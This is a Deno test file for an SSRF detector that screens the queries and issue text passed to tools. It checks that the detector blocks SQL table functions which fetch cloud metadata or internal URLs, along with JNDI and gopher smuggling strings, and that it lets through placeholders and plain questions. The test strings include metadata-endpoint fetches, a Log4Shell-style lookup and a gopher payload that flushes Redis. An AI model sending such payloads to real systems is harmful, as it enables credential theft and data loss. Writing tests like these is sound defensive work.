import { strictEqual } from "node:assert/strict";
import { ssrfDetector, SsrfOptionsSchema } from "./ssrf.ts";
import { placeholderAuthority, sqlFetch } from "./_ssrf_r27.ts";

const OPTS = SsrfOptionsSchema.parse({});
const blocks = (key: string, value: string, tool = "run_query"): boolean =>
  ssrfDetector.scan(value, { stage: "input", path: `$.${key}`, key, tool }, OPTS)
    .some((f) => f.severity !== "low");

/** Paraphrases (none from the fixtures): SQL functions that make the database fetch a URL. */
Deno.test("ssrf blocks SQL table functions fetching internal or metadata URLs", () => {
  const cases = [
    "SELECT * FROM s3('http://169.254.169.254/latest/user-data', 'RawBLOB')",
    "select count() from urlCluster('default', 'http://10.0.3.7:8123/?query=SELECT%201', 'TSV')",
    "WITH t AS (SELECT * FROM read_csv_auto('http://127.0.0.1:9200/_cat/indices')) SELECT * FROM t",
    "SELECT UTL_HTTP.REQUEST('http://169.254.169.254/computeMetadata/v1/') FROM dual",
    "-- quick check\nSELECT content FROM http_get('http://192.168.1.1/admin')",
  ];
  for (const v of cases) strictEqual(blocks("query", v), true, v);
});

Deno.test("ssrf records search questions and SQL that only compares URL strings", () => {
  const cases = [
    "why does clickhouse url('http://169.254.169.254/latest') time out on EKS",
    "SELECT * FROM access_log WHERE referer = 'http://169.254.169.254/latest/meta-data/'",
    "how do I block http://127.0.0.1:8123 from url() table functions",
  ];
  for (const v of cases) strictEqual(blocks("query", v), false, v);
  strictEqual(sqlFetch("SELECT * FROM url('https://example.com/data.csv', 'CSVWithNames')"), true);
  strictEqual(blocks("query", "SELECT * FROM url('https://example.com/data.csv', 'CSV')"), false);
});

/** Placeholder hosts in prose name a scheme and reach nothing. */
Deno.test("ssrf passes smuggling schemes whose host is a documentation placeholder", () => {
  const cases = [
    "Block lookups like ${jndi:rmi://…/x} at the edge.",
    "The payload has the form `${jndi:ldap://<attacker-host>/a}`; we patched it.",
    "Old clients accepted gopher://... URLs; the fix removes that.",
  ];
  for (const v of cases) strictEqual(blocks("body", v, "create_issue"), false, v);
  strictEqual(placeholderAuthority("ldap://...}", 7), true);
  strictEqual(placeholderAuthority("ldap://..evil.example/", 7), false);
});

Deno.test("ssrf still blocks smuggling schemes with a real host in prose", () => {
  const cases = [
    "Test header: ${jndi:ldap://198.51.100.23:1389/Exploit}",
    "then fetch gopher://127.0.0.1:6379/_FLUSHALL",
    "use dict://10.0.0.5:11211/stats for the cache",
  ];
  for (const v of cases) strictEqual(blocks("body", v, "create_issue"), true, v);
});
